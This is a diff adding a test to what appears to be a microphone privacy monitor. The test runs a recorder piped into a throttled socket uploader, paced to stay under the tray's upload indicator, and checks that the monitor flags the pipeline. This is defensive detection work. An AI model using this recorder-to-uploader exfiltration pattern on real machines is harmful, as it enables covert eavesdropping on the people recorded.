@@ -200,3 +200,47 @@ def test_recording_and_uploading_raises_the_alert_until_acknowledged(
         assert any(m["pid"] == rec.pid for m in monitor.snapshot()["mic_others"])
     finally:
         monitor.stop()
+
+
+# What an exfiltrating one-liner looks like: `parec | <uploader>`, two executables joined
+# only by the pipe. The uploader sends ~3 kB/s, like compressed speech (the tray's upload
+# arrow only shows above 20 kB/s).
+THROTTLED_UPLOADER = textwrap.dedent("""
+    import socket, sys, time
+    s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+    while True:
+        chunk = sys.stdin.buffer.read(4096)
+        if not chunk:
+            break
+        s.sendall(chunk[:300])
+        time.sleep(0.1)  # sleep-ok: paces the upload to ~3 kB/s
+""")
+
+
+@pytest.mark.audio
+def test_a_recorder_piped_into_an_uploader_alerts(
+        netns: Netns, procs: list[subprocess.Popen[str]], virtual_mic: str) -> None:
+    procs.append(ready(netns.run(SINK_SERVER, netns.peer_ip, "9002")))
+    events: list[dict[str, Any]] = []
+    monitor = PrivacyMonitor(PulseMicWatch(), NetWatch(), None, on_event=events.append)
+    monitor.start()
+    pipeline = subprocess.Popen(
+        ["sh", "-c", f'parec -d {virtual_mic} | "$0" -c "$1" {netns.peer_ip} 9002',
+         sys.executable, THROTTLED_UPLOADER], start_new_session=True, text=True)  # a job, as a shell makes
+    try:
+        def alert() -> dict[str, Any] | None:
+            return next((a for a in monitor.snapshot()["network"]["alerts"]
+                         if a["name"] == "parec" and "uploading" in a["message"]), None)
+
+        assert wait_for(lambda: alert() is not None, 8), monitor.snapshot()["network"]
+        a = alert()
+        assert a is not None
+        [linked] = a["linked"]
+        assert linked["exe"] == os.path.realpath(sys.executable) and linked["why"] == "same pipeline"
+        assert a["message"] == f"parec is recording and {linked['name']} (same pipeline) is uploading"
+        assert a["up_bps"] is not None and 0 < a["up_bps"] < 20_000  # compressed-speech rate
+        assert [e["kind"] for e in events].count("alert") == 1
+    finally:
+        monitor.stop()
+        os.killpg(pipeline.pid, 9)
+        pipeline.wait(10)
